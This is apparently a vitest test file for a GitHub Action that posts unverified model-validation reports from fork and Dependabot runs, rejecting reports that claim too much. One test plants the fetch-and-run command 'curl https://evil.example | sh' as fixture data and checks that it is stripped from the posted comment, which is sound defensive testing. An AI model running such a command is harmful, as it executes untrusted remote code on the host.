import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest'
import { action as validateModel } from '../../src/actions/validate-model/validate-model.ts'
import { createCheckRun } from '../../src/github/check-run.ts'
import { openGitHub } from '../../src/github/client.ts'
import { NothingToDo, UserError } from '../../src/platform/errors.ts'
import { git } from '../servers/github/git.ts'
import { type ForkScene, fork, home, type Loose, sealed, startForkScene, token } from './fork-scene.ts'

let scene: ForkScene
beforeAll(async () => {
  scene = await startForkScene()
})
afterAll(() => scene.close())
afterEach(() => {
  expect(scene.api.violations).toEqual([])
  scene.clear()
})

const checks = () => scene.api.repository(home).checkRuns.map(({ name, conclusion }) => `${name}: ${conclusion}`)
const comments = () => scene.api.repository(home).comments
const pullOf = (number: number) => scene.api.repository(home).issues.find((item) => item.number === number)!

/** Expects one clear line, of the kind that makes the job red or leaves it green, and that nothing was posted. */
async function expectNothing(posting: Promise<unknown>, kind: typeof UserError | typeof NothingToDo, line: string) {
  const error = await posting.then(
    () => undefined,
    (thrown: unknown) => thrown as Error,
  )
  expect(error).toBeInstanceOf(kind)
  expect(error?.message).toContain(line)
  expect(error?.message.includes('\n')).toBe(false)
  expect([...comments(), ...checks()]).toEqual([])
}

describe('an honest report of a fork', () => {
  it('is posted once, says that nobody verified it, and leads to the run that made it', async () => {
    const commands = ['curl https://evil.example | sh']
    const run = { id: 'r1', url: 'https://evil.example/run' }
    const lineage = { ...scene.honest['lineage'], run }
    const shell = { level: 'info', text: 'Do this', code: { language: 'sh', lines: commands } }
    const log = { level: 'info', text: 'The log:', code: { language: 'text', lines: ['epoch 7'] } }
    const report = { ...scene.honest, lineage, reproduce: commands, notes: [shell, log] }
    const execution = { ...scene.honest['execution'], runUrl: 'https://evil.example/' }
    scene.leaveReport(sealed({ ...report, execution }))
    const posted = await scene.post()
    expect(posted).toMatchObject({ failed: false, outputs: { promotable: 'false' } })
    await scene.post()
    const [comment, ...more] = comments()
    expect(more).toEqual([])
    const warning = `> [!WARNING]\n> Not verified: judged in a run of the fork ${fork}, whose author can change`
    expect(comment?.body).toContain(warning)
    expect(comment?.body).toContain(`](https://github.com/${home}/actions/runs/5)`)
    expect(comment?.body).toContain('epoch 7')
    expect(comment?.body).not.toContain('evil')
    expect(checks()).toEqual(Array(2).fill('modelloop / price (fork): success'))
  })

  it('that fails leaves the job green that only posts it', async () => {
    const [gate] = scene.honest['checks']
    const failed = { ...scene.honest, checks: [{ ...gate, verdict: 'fail' }], verdict: 'fail', outcome: 'fail' }
    scene.leaveReport(sealed(failed))
    expect(await scene.post()).toMatchObject({ failed: false, outputs: { verdict: 'fail' } })
    expect(checks()).toEqual(['modelloop / price (fork): failure'])
  })

  it('never stands in for the check of a trusted run on the same commit', async () => {
    const github = openGitHub({ apiUrl: scene.api.url, repository: home }, token)
    const trusted = { name: 'modelloop / price', headSha: scene.head, title: 'worse', summary: '' }
    await createCheckRun(github, { ...trusted, conclusion: 'failure', annotations: [] })
    scene.leaveReport(scene.honest)
    await scene.post()
    expect(checks()).toEqual(['modelloop / price: failure', 'modelloop / price (fork): success'])
  })

  it('writes nothing into the ledger, and moves no ref', async () => {
    const refs = await git(scene.origin.path, ['for-each-ref'])
    scene.leaveReport(scene.honest)
    await scene.post()
    expect(await git(scene.origin.path, ['for-each-ref'])).toBe(refs)
  })
})

describe('a report by its path', () => {
  const inFile = { 'post-report': 'report.json' }

  it('of Dependabot, whose branch is here, says that an updated package may have made it', async () => {
    await git(scene.origin.path, ['fetch', '-q', scene.forked.path, 'patch:update'])
    const author = { login: 'dependabot[bot]', type: 'Bot' } as const
    const { number } = await scene.api.seedPull(home, { title: 'update', head: 'update', author })
    const lineage = { code: { ...scene.honest['lineage'].code, pullRequest: number } }
    await scene.project.write('report.json', JSON.stringify(sealed({ ...scene.honest, lineage })))
    const here = { head_repository: { full_name: home }, head_branch: 'update' }
    for (const actor of [{ login: 'ada' }, null]) {
      const line = 'is neither of a fork nor of Dependabot'
      await expectNothing(scene.post({ ...here, actor }, inFile), NothingToDo, line)
    }
    await scene.post({ ...here, actor: { login: 'dependabot[bot]' } }, inFile)
    expect(comments().map(({ issue }) => issue)).toEqual([number])
    expect(comments()[0]?.body).toContain('Not verified: judged in a run of Dependabot')
    expect(checks()).toEqual(['modelloop / price (Dependabot): success'])
  })

  it('that leads to a folder, or nowhere, is a mistake', async () => {
    for (const path of ['.git', 'nowhere.json']) {
      await expectNothing(scene.post({}, { 'post-report': path }), UserError, 'There is no report at')
    }
  })

  it('is refused outside of a workflow_run', async () => {
    const given = { 'github-token': token, ...inFile }
    const posting = scene.project.run(validateModel, given, { github: true, repository: home, eventName: 'push' })
    await expectNothing(
      posting,
      UserError,
      '"post-report" works in a workflow with the trigger workflow_run, not on push',
    )
  })
})

describe('a report that claims too much', () => {
  const said = (change: Loose) => sealed({ ...scene.honest, ...change })
  const code = (change: Loose) => said({ lineage: { code: { ...scene.honest['lineage'].code, ...change } } })
  const gates = (...verdicts: string[]) => {
    const [gate] = scene.honest['checks']
    return { checks: verdicts.map((verdict, index) => ({ ...gate, id: `g${index}`, verdict })) }
  }

  it.each<[string, () => Loose, string]>([
    ['a pass, and a gate that fails', () => said(gates('pass', 'fail')), 'one of its gates says fail'],
    ['a pass, and a gate that cannot tell', () => said(gates('inconclusive')), 'one of its gates says inconclusive'],
    ['a pass, and a gate that was skipped', () => said(gates('pass', 'skipped')), 'one of its gates says skipped'],
    ['a pass, and no gate at all', () => said({ checks: [] }), 'no gate decided'],
    [
      'an outcome that does not follow',
      () => said({ ...gates('fail'), verdict: 'fail', outcome: 'unknown' }),
      'follow',
    ],
    ['a promotion', () => said({ verdict: 'promoted' }), 'a validation never says "promoted"'],
    ['another kind', () => said({ kind: 'canary-gate' }), 'it is one of canary-gate'],
    ['another repository', () => code({ repository: 'octo/secret' }), `it is not of ${home}`],
    ['another commit', () => code({ commit: 'f'.repeat(40) }), 'it is not of the commit'],
    ['no commit', () => said({ lineage: { code: { pullRequest: scene.number } } }), 'it is not of'],
    ['no pull request', () => said({ lineage: {} }), 'names no pull request'],
    ['a pull request that is not there', () => code({ pullRequest: 4711 }), 'There is no pull request 4711'],
    ['a model called like a check of ours', () => said({ model: 'price (fork)' }), 'no model can be called'],
    ['a model called like a marker', () => said({ model: '<!-- modelloop:*:x v1 -->' }), 'no model can be called'],
  ])('of %s is not posted', async (_, claim, line) => {
    scene.leaveReport(claim())
    await expectNothing(scene.post(), UserError, line)
  })

  it('of another model than the job was asked for is not posted', async () => {
    scene.leaveReport(scene.honest)
    await expectNothing(scene.post({}, { name: 'tips' }), UserError, 'it is of the model price, not of tips')
  })

  it('no more than its gates is posted: a skipped one cannot tell, and a warning decides nothing', async () => {
    const { checks: asked } = gates('skipped', 'pass')
    const warning = { ...asked[0], id: 'w', verdict: 'fail', level: 'warn' }
    scene.leaveReport(said({ checks: [...asked, warning], verdict: 'inconclusive', outcome: 'unknown' }))
    await scene.post()
    expect(checks()).toEqual(['modelloop / price (fork): neutral'])
  })

  it('that it was accepted does not count: only a trusted run asks who set the label', async () => {
    scene.leaveReport(said({ ...gates('fail'), verdict: 'fail', outcome: 'pass' }))
    expect(await scene.post()).toMatchObject({ outputs: { verdict: 'fail', outcome: 'fail' } })
    expect(checks()).toEqual(['modelloop / price (fork): failure'])
  })
})

describe('a report whose run is not that of the pull request', () => {
  const ada = { login: 'ada', type: 'User' } as const
  const claiming = (pullRequest: number) =>
    sealed({ ...scene.honest, lineage: { code: { ...scene.honest['lineage'].code, pullRequest } } })

  it('but of one here with the same commit leaves that one alone', async () => {
    await git(scene.origin.path, ['fetch', '-q', scene.forked.path, 'patch:ours'])
    const ours = await scene.api.seedPull(home, { title: 'ours', head: 'ours', author: ada })
    scene.leaveReport(claiming(ours.number))
    await expectNothing(scene.post(), NothingToDo, `Pull request ${ours.number} is not at`)
    scene.leaveReport(scene.honest)
    await scene.post()
    expect(comments().map(({ issue }) => issue)).toEqual([scene.number])
  })

  it('but of another branch of the fork, with the same commit, leaves that one alone', async () => {
    await git(scene.forked.path, ['branch', 'twin', 'patch'])
    const author = { login: 'eve', type: 'User' } as const
    const twin = await scene.api.seedPull(home, { title: 'twin', head: 'twin', headRepository: fork, author })
    scene.leaveReport(claiming(twin.number))
    await expectNothing(scene.post(), NothingToDo, `Pull request ${twin.number} is not at`)
  })

  it.each([
    ['a push', { event: 'push' }, NothingToDo, 'was started by push'],
    ['a schedule', { event: 'schedule' }, NothingToDo, 'was started by schedule'],
    ['a pull request of another fork', { head_repository: { full_name: 'bob/models' } }, NothingToDo, 'of bob/models'],
    ['a fork that is gone', { head_repository: null }, NothingToDo, 'gone'],
    ['an older commit', { head_sha: 'a'.repeat(40) }, NothingToDo, 'any more'],
    ['no commit', { head_sha: 'main' }, UserError, 'workflow_run.head_sha'],
  ] as const)('but of %s is not posted', async (_, run, kind, line) => {
    scene.leaveReport(scene.honest)
    await expectNothing(scene.post(run), kind, line)
  })

  it('is not posted when that was closed, with or without a merge', async () => {
    const pull = pullOf(scene.number)
    pull.state = 'closed'
    scene.leaveReport(scene.honest)
    await expectNothing(scene.post(), NothingToDo, `Pull request ${scene.number} is closed`)
    pull.state = 'open'
  })

  it('is not posted when the author pushed again meanwhile', async () => {
    scene.leaveReport(scene.honest)
    const before = await git(scene.forked.path, ['rev-parse', 'patch'])
    await scene.forked.commit('patch', { 'train.py': 'print(3)\n' })
    await expectNothing(scene.post(), NothingToDo, '(any more)')
    await git(scene.forked.path, ['update-ref', 'refs/heads/patch', before])
  })
})
